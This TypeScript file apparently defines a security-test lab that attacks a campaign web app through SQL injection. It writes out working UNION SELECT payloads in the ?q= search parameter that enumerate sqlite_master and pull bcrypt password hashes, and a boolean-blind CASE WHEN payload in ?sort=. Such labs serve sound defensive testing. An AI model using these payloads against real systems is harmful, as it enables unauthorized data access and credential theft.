import { client, type Client } from "../client.js";
import { defineLab, type Say } from "../lab.js";
import { newCampaign, signUp } from "../people.js";

const BCRYPT_HASH = /\$2[ab]\$\d\d\$[./A-Za-z0-9]{53}/;
const MOST_COLUMNS = 12;

export const sqlInjection = defineLab({
  name: "sql-injection",
  title: "SQL in ?q= and ?sort=",
  story:
    "Mallory may search the campaigns and sort them. She writes SQL where a word is expected. She does not know the " +
    "tables: she asks for them first.",

  async hold({ url }) {
    const mallory = await signUp(url, "mallory");
    for (const name of ["A launch", "Z launch"]) await newCampaign(url, mallory, `${name} of ${mallory.username}`);
    return { token: mallory.access, username: mallory.username };
  },

  async attack({ url, held: { token, username }, say }) {
    const stolen = await searchFor(client(url), token, say);
    say("Sort by a question about another table: the order of the list is the answer, yes or no.");
    const answers = await sortBy(client(url, say), token, username);
    const done = [
      stolen && "A password hash came back in a list of campaigns",
      answers && "the order of a list answers any question",
    ];
    return done.some(Boolean)
      ? { succeeded: true, because: `${done.filter(Boolean).join(", and ")}.` }
      : { succeeded: false, because: "What was searched for was only searched for, and no such order exists." };
  },
});

/** Whether a search can be made to show password hashes. */
async function searchFor(http: Client, token: string, say: Say): Promise<boolean> {
  const search = (sql: string) => http.get(`/campaigns?q=${encodeURIComponent(sql)}`, { token });
  say("Search for the end of a string and a UNION, with more and more columns, for the names of tables.");
  for (let columns = 1; columns <= MOST_COLUMNS; columns += 1) {
    const rest = ", NULL".repeat(columns - 1);
    const { status, text } = await search(`zzz' UNION SELECT sql${rest} FROM sqlite_master --`);
    if (columns === 1 || status !== 500)
      say(`?q=zzz' UNION SELECT sql${rest} FROM sqlite_master -- → ${status}`, "wire");
    const [, table, column] = /CREATE TABLE (\w*users\w*) [^]*?(\w*hash\w*)/.exec(text) ?? [];
    if (table === undefined) continue;
    say(`With ${columns} columns it answers, and there is ${table}.${column}. Ask for it in the same way.`);
    const [hash] = BCRYPT_HASH.exec((await search(`zzz' UNION SELECT ${column}${rest} FROM ${table} --`)).text) ?? [];
    say(`?q=zzz' UNION SELECT ${column}${rest} FROM ${table} -- → ${hash?.slice(0, 16)}…`, "wire");
    return hash !== undefined;
  }
  return false;
}

/** Whether the order of a list depends on a condition that the client writes. */
async function sortBy(http: Client, token: string, username: string): Promise<boolean> {
  const orderIf = async (condition: string): Promise<string> => {
    const sort = `(CASE WHEN ${condition} THEN name ELSE -unicode(name) END)`;
    const { status, body } = await http.get(`/campaigns?q=${username}&sort=${encodeURIComponent(sort)}`, { token });
    const rows = (body["data"] ?? []) as { name: string }[];
    return status === 200 ? rows.map(({ name }) => name).join() : "";
  };
  const yes = await orderIf("(SELECT count(*) FROM users) > 0");
  return yes !== "" && yes !== (await orderIf("(SELECT count(*) FROM users) < 0"));
}
